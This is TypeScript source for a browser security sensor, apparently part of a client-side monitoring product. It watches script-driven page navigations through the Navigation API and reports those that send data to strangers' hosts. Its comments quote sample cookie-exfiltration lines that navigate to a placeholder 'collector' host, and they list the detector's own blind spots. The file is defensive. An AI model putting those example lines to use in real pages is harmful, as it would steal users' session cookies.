/**
 * Navigations as a way out: `location.href = 'https://collector/?c=' + document.cookie`, `location.assign`,
 * a frame's `contentWindow.location`, a link a script clicks. The Location setters cannot be wrapped (they
 * are unforgeable), so no request hook sees these; where the browser has the Navigation API (Chromium;
 * Firefox 140 has not), its `navigate` event fires in the navigated document, synchronously, inside the
 * call that navigated — with that call's script on the stack, from this frame or its parent. (A navigation
 * started from another origin fires none: say, a sandboxed frame allowed to navigate the top.)
 *
 * A navigation to a stranger's URL made by code other than the shop's is reported as a page request
 * `via: 'navigation'`, like a window opened there (page-requests.main.ts); one to a data: or blob: document
 * as an inserted script, `how: 'navigation'` (main/code-document.ts). Not reported: the person's own
 * navigations (`userInitiated`: a link they clicked, a form they sent), form submissions (the form hooks
 * report those, `via: 'form'`), events the page dispatches itself (not `isTrusted`), and a
 * `<meta http-equiv=refresh>` to the destination with no script on the stack (page-requests.main.ts judges
 * its attributes when a script sets them). Every link a script follows is also main/link-follow.ts's, judged
 * at the call: a link's navigate event with no script on the stack is left to it (Firefox 153 fires that event
 * a task after the click, so no stack names who clicked). Not seen: other navigations away from a
 * frame's first, empty document (about:blank fires no navigate event), and `location` navigations in a
 * browser without the API; the network timeline, which lists resources and not documents, does not catch
 * them either.
 */
import { codeDocumentReporter } from '../main/code-document.ts';
import { documentQuerySelectorAll, getAttribute, listen, nodeName, resolveUrl } from '../main/natives.ts';
import { isRefresh, refreshUrl } from '../main/refresh-url.ts';
import { requestReporter } from '../main/request-report.ts';
import { isPageSide, type MainSensor } from '../main/sensor.ts';
import { getterOf, globalPrototype } from '../main/strings.ts';

// Captured at document_start: page code may replace these getters to show Saq another destination.
const navigationOf = getterOf<EventTarget | null>(globalThis, 'navigation');
const destination = getterOf<object>(globalPrototype('NavigateEvent'), 'destination');
const userInitiated = getterOf<boolean>(globalPrototype('NavigateEvent'), 'userInitiated');
const formData = getterOf<FormData | null>(globalPrototype('NavigateEvent'), 'formData');
/** The element that started it (Chromium 134+): a link, a form, or the button that sent a form. */
const sourceElement = getterOf<Element | null>(globalPrototype('NavigateEvent'), 'sourceElement');
const destinationUrl = getterOf<string>(globalPrototype('NavigationDestination'), 'url');
const sameDocument = getterOf<boolean>(globalPrototype('NavigationDestination'), 'sameDocument');

/**
 * Whether a `<meta http-equiv=refresh>` in `document` sends it to `url`: the one navigation here the browser
 * starts with no script on the stack and nobody's click, so the page's own. Any other navigation with an empty
 * stack is a native the page bound and handed to a timer or a promise
 * (`setTimeout(location.assign.bind(location), 0, 'https://collector/?c=' + document.cookie)`): it names nobody,
 * and it was taken for the shop's and never reported.
 */
function refreshesTo(document: Document, url: string): boolean {
  try {
    const metas = documentQuerySelectorAll(document, 'meta[http-equiv]');
    for (let i = 0; i < metas.length; i++) {
      if (!isRefresh(getAttribute(metas[i]!, 'http-equiv'))) continue;
      const to = refreshUrl(getAttribute(metas[i]!, 'content'));
      if (to !== null && resolveUrl(to) === url) return true;
    }
  } catch {
    // A page's odd markup (or a NodeList it rewired) is no refresh of the page's.
  }
  return false;
}

export const navigationsSensor: MainSensor = {
  id: 'navigations',
  install(context, realm, top) {
    // Only this document's own realm: a frame Saq adopts from here is an empty first document, whose
    // navigations fire no event; a frame with a document of its own runs its own copy of this sensor.
    if (!top || !navigationOf || !destination || !userInitiated || !formData || !destinationUrl || !sameDocument) return;
    const navigation = navigationOf(realm);
    if (!navigation) return;
    const { attribution, site } = context;
    const send = requestReporter(context);
    const codeDocument = codeDocumentReporter(context, true);
    listen(
      navigation,
      'navigate',
      (event) => {
        if (!event.isTrusted || userInitiated(event)) return;
        if (formData(event) !== null) return;
        // A form's submission (the source is the form, or the button that sent it) is the form hooks' to report.
        const source = sourceElement ? sourceElement(event) : null;
        const tag = source === null ? '' : nodeName(source);
        if (tag === 'FORM' || tag === 'BUTTON' || tag === 'INPUT') return;
        const to = destination(event);
        // pushState, replaceState, a fragment: no request leaves, and nothing is attributed (no stack taken).
        if (sameDocument(to)) return;
        const url = destinationUrl(to);
        // What is reported here leaves before the listener returns (flushNow): the document may be gone before
        // a port message's task would run — a frame sent to a data: document commits at once.
        // An empty stack is the browser's own start of a navigation someone else judged: the page's refresh to
        // this URL (above), or a link (Firefox 153 follows one a task after its click, with no script on the
        // stack; the click was judged at the call, with its actor, by main/link-follow.ts).
        const started = refreshesTo(realm.document, url) || tag === 'A' || tag === 'AREA' || tag === 'a';
        if (codeDocument(url, 'navigation', started)) return context.flushNow();
        if (!site.needsActor(url)) return;
        // An inline script's actor leaves without its SHA-256: hashing takes a task the document may not have.
        const { actor } = attribution.attribute(started);
        if (isPageSide(actor, site)) return;
        send('navigation', url, 'GET', 0, { actor });
        context.flushNow();
      },
      { signal: context.signal },
    );
  },
};
